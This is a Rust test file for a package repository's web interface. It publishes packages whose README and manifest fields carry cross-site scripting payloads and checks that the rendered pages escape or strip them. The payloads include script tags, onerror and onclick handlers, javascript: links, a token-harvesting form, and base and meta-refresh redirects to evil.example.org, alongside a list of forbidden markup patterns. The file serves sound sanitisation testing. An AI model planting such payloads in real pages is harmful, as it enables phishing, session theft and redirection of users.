//! Tests of the pages about packages of hostile publishers.
#![allow(
    clippy::unwrap_used,
    reason = "the helpers of tests may do what tests may do"
)]

mod browser;
#[path = "../../package-repository/tests/contract/mod.rs"]
mod contract;
mod registry;

use browser::{Browser, built, publish};
use registry::Desk;

const README: &str = r#"# <script>alert(1)</script> tool

<script>alert(2)</script>
<img src=x onerror=alert(3)> ![huge](https://evil.example.org/huge.png) ![data](data:image/png;base64,AAAA)

[a](javascript:alert(4)) [b](data:text/html,alert) [c](//evil.example.org) [d](/sign-out)

<form action=https://evil.example.org method=post><input name=token><button>Sign in</button></form>
<base href=https://evil.example.org/><meta http-equiv=refresh content="0;url=https://evil.example.org">
<p onclick=alert(5) style="position:fixed" class=skip id=main>text</p>
</div></main></body></html>
"#;

/// Asserts that nothing of a package acts, or reaches another host.
#[track_caller]
fn assert_harmless(page: &str) {
    for text in [
        "<script",
        "<img",
        "<form action=\"https",
        "<input name=\"token",
        "<base",
        "<meta http-equiv",
        "href=\"javascript:",
        "href=\"data:",
        "href=\"//",
        "\" onclick=",
        "onerror=\"",
        "style=\"",
        "id=\"main\">text",
        "\u{202e}",
        "\u{1b}",
    ] {
        assert!(!page.contains(text), "{text}: {page}");
    }
    let sources = page.matches("src=\"").count();
    assert_eq!(sources, 0, "{page}");
    assert_eq!(page.matches("</body>").count(), 1);
    assert_eq!(page.matches("</main>").count(), 1);
    assert_eq!(page.matches("<h1>").count(), 1);
}

#[tokio::test]
async fn document_and_fields_of_a_package_do_nothing() {
    let desk = Desk::new();
    let team = desk.folder("team");
    let manifest = r#"
extension:
  name: tool
  version: 1.0.0
  description: "<script>alert(1)</script> \u202e\u001b[2J"
  author: "<img src=x onerror=alert(1)>"
  keywords: ["<b>", "'\" onmouseover=alert(1)"]
  deprecated: "</p><form action=//evil.example.org>"
dependencies:
  - {name: other, version: "*"}
parameters:
  url: {description: "<svg onload=alert(1)>"}
metadata:
  license: "\" onclick=alert(1)"
  homepage: "javascript:alert(1)"
"#;
    publish(&team, &built(&desk, manifest, README.as_bytes())).await;
    let odd = "extension: {name: odd, version: 1.0.0, type: \"<b>/..?x#y\"}\n";
    publish(&team, &built(&desk, odd, b"")).await;
    let workspace = desk.workspace("home", "enforce", &desk.folder_toml("team"));
    let browser = Browser::open(workspace).await;

    for path in [
        "/packages",
        "/packages?license=%22+onclick%3Dalert(1)",
        "/repositories",
    ] {
        assert_harmless(&browser.page(path).await);
    }
    assert_harmless(&browser.page("/packages/record/tool").await);
    let page = browser.page("/packages/record/tool/1.0.0").await;
    assert_harmless(&page);
    for text in [
        "&lt;script&gt;alert(1)&lt;/script&gt; \\u{202e}\\u{1b}[2J",
        "<dd>javascript:alert(1)</dd>",
        "huge",
        "<p>text</p>",
    ] {
        assert!(page.contains(text), "{text}: {page}");
    }
    // The type is a part of the path.
    let list = browser.page("/packages").await;
    let link = "/packages/%3Cb%3E%2F..%3Fx%23y/odd";
    assert!(list.contains(link), "{list}");
    assert_harmless(&browser.page(link).await);
    assert_harmless(&browser.page(&format!("{link}/1.0.0")).await);
}

#[tokio::test]
async fn long_document_is_cut() {
    let desk = Desk::new();
    let team = desk.folder("team");
    let manifest = "extension: {name: tool, version: 1.0.0}\n";
    let readme = "All work and no play. <script>alert(1)</script>\n\n".repeat((10 << 20) / 48);
    publish(&team, &built(&desk, manifest, readme.as_bytes())).await;
    let workspace = desk.workspace("home", "enforce", &desk.folder_toml("team"));
    let browser = Browser::open(workspace).await;
    let page = browser.page("/packages/record/tool/1.0.0").await;
    assert!(page.contains("Only the start of the document is shown."));
    assert!(page.len() < 1 << 20, "{}", page.len());
    assert_harmless(&page);
}

#[tokio::test]
async fn document_in_another_format_is_plain_text() {
    let desk = Desk::new();
    let team = desk.folder("team");
    let manifest = "extension: {name: tool, version: 1.0.0}\ndocs: {format: asciidoc}\n";
    let readme = b"= tool\n\n++++\n<script>alert(1)</script>\n++++\n";
    publish(&team, &built(&desk, manifest, readme)).await;
    let workspace = desk.workspace("home", "enforce", &desk.folder_toml("team"));
    let browser = Browser::open(workspace).await;
    let page = browser.page("/packages/record/tool/1.0.0").await;
    assert!(page.contains("++++\n&lt;script&gt;"), "{page}");
    assert_harmless(&page);
}
